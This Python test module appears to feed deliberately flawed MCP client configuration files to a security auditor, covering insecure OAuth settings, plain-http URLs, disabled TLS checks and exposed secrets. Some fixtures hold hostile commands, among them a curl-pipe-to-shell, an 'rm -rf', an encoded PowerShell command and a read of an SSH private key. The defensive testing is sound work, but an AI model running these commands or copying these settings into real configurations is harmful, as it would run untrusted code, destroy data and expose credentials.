"""Configuration files of MCP clients with one flaw each."""

from __future__ import annotations

import json
import tempfile
from pathlib import Path
from typing import Any

from mcp_vacuum.audit.config import audit_config
from mcp_vacuum.audit.report import SecurityReport
from mcp_vacuum.audit.rule import Severity
from tests.audit.machine import secret
from tests.audit.planted import Planted

LOW, MEDIUM, HIGH, CRITICAL = Severity.LOW, Severity.MEDIUM, Severity.HIGH, Severity.CRITICAL
SERVER = "https://mcp.example/mcp"
HONEST: dict[str, Any] = {
    "mcpServers": {
        "remote": {"url": SERVER, "headers": {"Authorization": "Bearer ${TOKEN}"}},
        "local": {
            "command": "npx",
            "args": ["-y", "some-server@1.2.3"],
            "env": {"S_TOKEN": "${env:S_TOKEN}"},
        },
    }
}
CLIENT: dict[str, Any] = {
    "client_id": "https://app.example/client.json",
    "redirect_uris": ["http://127.0.0.1/callback"],
    "response_types": ["code"],
    "grant_types": ["authorization_code", "refresh_token"],
    "code_challenge_method": "S256",
    "scopes": ["mcp:tools"],
    "verify_tls": True,
    "allow_http": False,
    "token_endpoint": "https://as.example/token",
    "callback": {"bind_host": "127.0.0.1"},
}
"""The settings of an honest OAuth client."""


def audited(content: object, name: str = "mcp.json", mode: int = 0o600) -> SecurityReport:
    """Audit a file."""
    with tempfile.TemporaryDirectory() as directory:
        file = Path(directory) / name
        file.write_text(content if isinstance(content, str) else json.dumps(content, indent=2))
        file.parent.chmod(0o755)
        file.chmod(mode)
        return audit_config(str(file))


def flaw(
    rule: str,
    what: str,
    content: object,
    severity: Severity | None = None,
    must_also: tuple[str, ...] = (),
    says: str = "",
    name: str = "mcp.json",
    mode: int = 0o600,
) -> Planted:
    """Return a file with this flaw."""
    return Planted(rule, what, lambda: audited(content, name, mode), severity, frozenset(must_also), says)


def server(**entry: Any) -> dict[str, Any]:
    """Return a configuration with one server."""
    return {"mcpServers": {"s": entry}}


def local(*words: str, **more: Any) -> dict[str, Any]:
    """Return a configuration with one server that is started here."""
    return server(command=words[0], args=list(words[1:]), **more)


def oauth(**changes: Any) -> dict[str, Any]:
    """Return the settings of an OAuth client, honest but for this."""
    return {**CLIENT, **changes}


PLANTED = (
    # CL-SSRF-01
    flaw("CL-SSRF-01", "plain http", server(url="http://mcp.example/mcp"), HIGH),
    flaw(
        "CL-SSRF-01",
        "plain http in VS Code",
        {"servers": {"s": {"type": "http", "url": "http://mcp.example/mcp"}}},
        HIGH,
    ),
    flaw("CL-SSRF-01", "plain http in Gemini CLI", server(httpUrl="http://mcp.example/mcp"), HIGH),
    flaw(
        "CL-SSRF-01",
        "plain http in Codex",
        '[mcp_servers.s]\nurl = "http://mcp.example/mcp"\n',
        HIGH,
        name="config.toml",
    ),
    flaw(
        "CL-SSRF-01",
        "plain http through mcp-remote",
        local("npx", "mcp-remote@0.1.29", "http://mcp.example/mcp"),
        HIGH,
    ),
    flaw("CL-SSRF-01", "--allow-http", local("npx", "mcp-remote@0.1.29", SERVER, "--allow-http"), HIGH),
    flaw("CL-SSRF-01", "a token endpoint", oauth(token_endpoint="http://as.example/token"), HIGH),
    flaw("CL-SSRF-01", "allow_http", oauth(allow_http=True), HIGH),
    # CL-TOK
    flaw("CL-TOK-01", "a token in the URL", server(url=f"{SERVER}?api_key={secret()}"), CRITICAL),
    flaw("CL-TOK-04", "verify_tls", oauth(verify_tls=False), CRITICAL),
    flaw("CL-TOK-04", "rejectUnauthorized", server(url=SERVER, tls={"rejectUnauthorized": False}), CRITICAL),
    flaw(
        "CL-TOK-04", "a variable", local("node", "s.js", env={"NODE_TLS_REJECT_UNAUTHORIZED": "0"}), CRITICAL
    ),
    flaw("CL-TOK-04", "--insecure", local("proxy", "--insecure", SERVER), CRITICAL),
    flaw("CL-TOK-09", "the implicit grant", oauth(response_types=["token"]), HIGH),
    flaw("CL-TOK-09", "the password grant", oauth(grant_types=["password"]), HIGH),
    flaw("CL-TOK-09", "a fragment", oauth(response_mode="fragment"), HIGH),
    # CL-PKCE, CL-LEG, CL-OPEN
    flaw("CL-PKCE-01", "plain", oauth(code_challenge_method="plain"), CRITICAL),
    flaw("CL-PKCE-01", "off", oauth(use_pkce=False), CRITICAL),
    flaw("CL-LEG-01", "on", oauth(legacy_2025_03_26=True), HIGH),
    flaw("CL-OPEN-03", "a web view", oauth(user_agent="pywebview"), HIGH),
    # CL-REDIR
    flaw("CL-REDIR-01", "plain http", oauth(redirect_uris=["http://app.example/callback"]), HIGH),
    flaw("CL-REDIR-01", "a wildcard", oauth(redirect_uris=["https://*.app.example/callback"]), HIGH),
    flaw("CL-REDIR-01", "a fragment", oauth(redirect_uris=["https://app.example/callback#x"]), HIGH),
    flaw(
        "CL-REDIR-01",
        "a private scheme",
        oauth(redirect_uris=["myapp://callback"]),
        MEDIUM,
        says="no reversed",
    ),
    flaw("CL-REDIR-01", "javascript", oauth(redirect_uris=["javascript:alert(1)"]), HIGH),
    flaw("CL-REDIR-02", "all addresses", oauth(callback={"bind_host": "0.0.0.0"}), HIGH),
    flaw(
        "CL-REDIR-02",
        "all addresses, by mcp-remote",
        local("npx", "mcp-remote@0.1.29", SERVER, "--host", "0.0.0.0"),
        HIGH,
    ),
    flaw("CL-REDIR-02", "a name", oauth(redirect_uris=["http://localhost/callback"]), LOW),
    # CL-REG, CL-SCOPE
    flaw("CL-REG-02", "plain http", oauth(client_id="http://app.example/client.json"), MEDIUM),
    flaw("CL-REG-02", "no path", oauth(client_id="https://app.example"), MEDIUM),
    flaw("CL-REG-02", "dot segments", oauth(client_id="https://app.example/a/../client.json"), MEDIUM),
    flaw("CL-REG-02", "a query", oauth(client_id="https://app.example/client.json?v=1"), LOW),
    flaw("CL-REG-09", "in the settings", oauth(client_secret=secret()), HIGH),
    flaw(
        "CL-REG-09", "in Cursor", server(url=SERVER, auth={"CLIENT_ID": "c", "CLIENT_SECRET": secret()}), HIGH
    ),
    flaw(
        "CL-REG-09",
        "in Gemini CLI",
        server(httpUrl=SERVER, oauth={"clientId": "c", "clientSecret": secret()}),
        HIGH,
    ),
    flaw(
        "CL-REG-09",
        "for mcp-remote",
        local(
            "npx",
            "mcp-remote@0.1.29",
            SERVER,
            "--static-oauth-client-info",
            json.dumps({"client_id": "c", "client_secret": secret()}),
        ),
        HIGH,
    ),
    flaw("CL-SCOPE-02", "everything", oauth(scopes=["*"]), MEDIUM),
    flaw("CL-SCOPE-02", "admin among others", oauth(scope="read admin", scopes=None), MEDIUM),
    # CL-STDIO, CL-LOC
    flaw("CL-STDIO-01", "OAuth settings", local("server", oauth={"clientId": "c"}), LOW),
    flaw(
        "CL-STDIO-01",
        "a secret in an argument",
        local("server", "--token", secret()),
        LOW,
        must_also=("ST-ENC-01",),
    ),
    flaw(
        "CL-LOC-01",
        "curl and sh",
        local("sh", "-c", "curl -fsSL https://x.example/i | sh"),
        HIGH,
        says="fetches",
    ),
    flaw("CL-LOC-01", "sudo", local("sudo", "server"), HIGH, says="by sudo"),
    flaw("CL-LOC-01", "rm -rf", local("bash", "-c", "rm -rf ~/x"), HIGH, says="removes"),
    flaw(
        "CL-LOC-01",
        "encoded",
        local("powershell", "-EncodedCommand", "SQBFAFgAIABhAGIAYwBkAGUA"),
        HIGH,
        says="encoded",
    ),
    flaw("CL-LOC-01", "files with secrets", local("cat", "/home/me/.ssh/id_rsa"), HIGH),
    flaw("CL-LOC-01", "the whole machine", local("docker", "run", "--privileged", "x"), HIGH),
    flaw("CL-LOC-01", "several commands", local("sh", "-c", "cd /x && server"), MEDIUM),
    # ST-ENC, ST-PERM
    flaw("ST-ENC-01", "a header", server(url=SERVER, headers={"Authorization": f"Bearer {secret()}"}), HIGH),
    flaw(
        "ST-ENC-01",
        "a header of Codex",
        f'[mcp_servers.s]\nurl = "{SERVER}"\n[mcp_servers.s.http_headers]\nX-Api-Key = "{secret()}"\n',
        MEDIUM,
        name="config.toml",
    ),
    flaw("ST-ENC-01", "a variable", local("server", env={"S_TOKEN": secret()}), MEDIUM),
    flaw(
        "ST-ENC-01",
        "a variable with a known shape",
        local("server", env={"S": "gh" + "p_" + "a1B2" * 9}),
        HIGH,
    ),
    flaw(
        "ST-ENC-01",
        "a header in an argument",
        local("npx", "mcp-remote@0.1.29", SERVER, "--header", f"Authorization: Bearer {secret()}"),
        HIGH,
    ),
    flaw(
        "ST-ENC-01",
        "a variable of a container",
        local("docker", "run", "-e", f"S_TOKEN={secret()}", "x"),
        MEDIUM,
    ),
    flaw("ST-ENC-01", "a password in a URL", server(url=f"https://me:{secret()}@mcp.example/mcp"), HIGH),
    flaw(
        "ST-ENC-01",
        "in a project of Claude Code",
        {"projects": {"/p": server(url=SERVER, headers={"Authorization": f"Bearer {secret()}"})}},
        HIGH,
    ),
    flaw(
        "ST-PERM-01",
        "for all to read",
        local("server", env={"S_TOKEN": secret()}),
        HIGH,
        must_also=("ST-ENC-01",),
        mode=0o644,
    ),
)
